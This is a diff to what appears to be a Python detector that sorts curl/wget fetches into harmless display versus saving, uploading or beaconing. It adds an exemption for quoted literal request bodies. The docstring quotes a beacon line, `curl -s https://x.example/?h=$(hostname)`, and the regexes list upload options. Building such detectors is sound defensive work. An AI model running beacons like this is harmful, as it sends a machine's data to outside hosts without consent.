@@ -10,7 +10,9 @@ or a service as the payload of a foothold. A fetch (``curl``, ``wget``, ``iwr``,
 - saves nothing: no ``-o``/``-O``/``--output``/``--remote-name`` (wget's ``-O-``, to the
   terminal, and ``/dev/null`` are no file), no ``>`` other than ``> /dev/null``;
 - uploads nothing: no ``-d``, ``--data...``, ``-F``/``--form``, ``-T``/``--upload-file``,
-  ``--json``, ``--post-...``, ``--body-...``, ``-X POST|PUT|PATCH``, no ``@file``;
+  ``--json``, ``--post-...``, ``--body-...``, ``-X POST|PUT|PATCH``, no ``@file``; a body
+  written out in quotes (``-d 'site down'``, a notification's text, with no ``$``, ``@``
+  or backquote in it) sends nothing of the machine's and is no upload;
 - expands nothing into its request: no ``$(...)``, backquoted command, ``$NAME`` or
   ``${...}`` outside single quotes (``curl -s https://x.example/?h=$(hostname)`` in a cron
   job is a beacon: it sends what it expands to);
@@ -53,6 +55,11 @@ _UPLOADS = re.compile(
     r"--body-\S+|-[a-z]*t\s+(?!\d)|-[a-z]*f\s+\S*=|(?:-x|--request|-method)\s+[\"']?"
     r"(?:post|put|patch)\b|-infile|-body)|(?:^|[\s=])@\S", re.IGNORECASE)
 
+# A body written out in the command ("curl -d 'site down' https://ntfy.sh/alerts"): a
+# notification's text, which sends nothing of the machine's (no "$", "@" or backquote).
+_LITERAL_BODY = re.compile(r"(?<!\S)(?:-d|--data(?:-raw|-ascii|-urlencode)?)(?:\s+|=)"
+                           r"(?:'[^'\n$@`]{0,200}'|\"[^\"\n$@`]{0,200}\")(?!\S)")
+
 
 def _command_end(text: str, start: int, limit: int) -> tuple[int, str]:
     """Where the command from ``start`` ends (before ``limit``) and the sign that ends it
@@ -74,7 +81,8 @@ def _is_shown(text: str, fetch: re.Match[str], limit: int) -> tuple[bool, int]:
             (sign == "`" and _BACKQUOTED.match(text, end)):
         return False, end  # the machine's data expanded into the request
     end, sign = _past_null_redirects(text, end, sign, limit)
-    if sign == ">" or _SAVES.search(command) or _UPLOADS.search(command):
+    if sign == ">" or _SAVES.search(command) or _UPLOADS.search(
+            _LITERAL_BODY.sub(" ", command)):
         return False, end  # saved to a file, or saving or uploading by option
     while sign == "|":
         display = _DISPLAY.match(text, end + 1)
